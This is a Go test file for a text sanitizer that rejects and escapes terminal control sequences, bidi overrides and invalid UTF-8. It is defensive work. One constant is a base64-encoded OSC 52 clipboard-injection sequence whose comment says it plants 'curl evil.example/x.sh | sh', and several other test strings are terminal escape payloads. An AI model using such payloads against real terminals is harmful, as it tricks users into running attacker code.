package safetext

import (
	"bytes"
	"encoding/json"
	"errors"
	"strings"
	"testing"
)

// osc52 writes "curl evil.example/x.sh | sh" to the clipboard of the
// terminal that shows it.
const osc52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUveC5zaCB8IHNo\x07"

func TestCheckRefusesWhatTerminalsObey(t *testing.T) {
	for _, s := range []string{
		"laptop" + osc52, "a\x1b[2J", "\x1b]0;X\x07", "a\u009bb", "moc.live\u202eexample", "a\rb", "a\bb",
		"a\x7f", "a\u200bb", "a\u2066b", "a\u061cb", "a\u2028b", "\ufeffa", "a\nb", "a\tb", "bad \xff utf-8",
	} {
		if err := Check(s); err == nil {
			t.Errorf("Check(%q) accepted", s)
		}
	}
	for _, s := range []string{"", "Ana Ruiz", "gpt-4o-mini", "ana+lamb@example.org", "Zoë Ñúñez", "محمد", "👩‍🔬", "日本語"} {
		if err := Check(s); err != nil {
			t.Errorf("Check(%q): %v", s, err)
		}
	}
	if err := CheckLines("You tutor essays.\n\tBe kind."); err != nil {
		t.Errorf("CheckLines with \\n and \\t: %v", err)
	}
	for _, s := range []string{"a\r\nb", "a\x1b[31mb", "a\u202eb"} {
		if err := CheckLines(s); !errors.Is(err, ErrUnsafe) {
			t.Errorf("CheckLines(%q) = %v, want ErrUnsafe", s, err)
		}
	}
	err := Check("ab\u009b")
	if err == nil || !strings.Contains(err.Error(), "U+009B at character 3") {
		t.Errorf("the error names the character and where: %v", err)
	}
}

func TestSanitizeShowsWhatItWouldHaveObeyed(t *testing.T) {
	for in, want := range map[string]string{
		"Ana":              "Ana",
		"a\x1b[2Jb":        `a\u001b[2Jb`,
		"a\u009bb":         `a\u009bb`,
		"a\u202eb":         `a\u202eb`,
		"a\rb\bc":          `a\u000db\u0008c`,
		"a\nb\tc":          `a\u000ab\u0009c`,
		"bad \xff utf-8":   "bad \ufffd utf-8",
		"Zoë \u200d emoji": "Zoë \u200d emoji",
	} {
		if got := Sanitize(in); got != want {
			t.Errorf("Sanitize(%q) = %q, want %q", in, got, want)
		}
	}
	if got := SanitizeLines("a\nb\tc\x1b"); got != "a\nb\tc\\u001b" {
		t.Errorf("SanitizeLines = %q", got)
	}
	if got := Sanitize(osc52); strings.ContainsAny(got, "\x1b\x07") {
		t.Errorf("Sanitize left a control: %q", got)
	}
}

// JSON through the sanitizer decodes to the same values: its escapes are
// JSON's own, and JSON has no raw \n or \t inside strings.
func TestSanitizedJSONDecodesToTheSameValues(t *testing.T) {
	v := map[string]string{"name": "laptop" + osc52 + "\u009b\u202e\x1b[2J\r\b", "plain": "Zoë\nline"}
	data, err := json.MarshalIndent(v, "", "  ")
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Contains(data, []byte("\u009b")) || !bytes.Contains(data, []byte("\u202e")) {
		t.Fatal("encoding/json escapes C1 and bidi itself now: this test proves nothing")
	}
	out := SanitizeLines(string(data))
	if strings.Contains(out, "\u009b") || strings.Contains(out, "\u202e") || strings.Contains(out, "\x1b") {
		t.Fatalf("raw control in %q", out)
	}
	var back map[string]string
	if err := json.Unmarshal([]byte(out), &back); err != nil {
		t.Fatalf("sanitized JSON doesn't decode: %v\n%s", err, out)
	}
	if back["name"] != v["name"] || back["plain"] != v["plain"] {
		t.Fatalf("decoded %q, want %q", back, v)
	}
}

// A character split across two writes arrives whole.
func TestWriterKeepsCharactersSplitAcrossWrites(t *testing.T) {
	var b bytes.Buffer
	w := NewWriter(&b)
	in := []byte("é\u009b€" + osc52 + "x")
	for i := range in {
		if _, err := w.Write(in[i : i+1]); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	if want := SanitizeLines(string(in)); b.String() != want {
		t.Fatalf("byte by byte: %q, want %q", b.String(), want)
	}
	b.Reset()
	w = NewWriter(&b)
	_, _ = w.Write([]byte("end \xe2\x82")) // the start of € and no more
	_ = w.Flush()
	if b.String() != "end \ufffd\ufffd" && b.String() != "end \ufffd" {
		t.Fatalf("a cut character at the end: %q", b.String())
	}
}
